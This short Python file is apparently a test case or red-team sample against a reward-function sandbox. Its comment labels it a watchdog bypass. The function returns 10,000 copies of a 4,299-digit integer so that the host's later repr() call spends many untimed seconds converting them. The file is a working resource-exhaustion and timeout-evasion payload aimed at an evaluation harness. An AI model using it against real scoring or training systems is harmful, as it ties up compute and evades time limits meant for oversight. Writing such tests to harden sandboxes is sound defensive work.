# Attack: watchdog bypass — return a list of 10,000 4,299-digit integers: the bad-value message is built by repr() after the call, converting every integer to decimal (quadratic) for many seconds, untimed.
BIG = 10**4299


def reward_function(params):
    return [BIG] * 10000
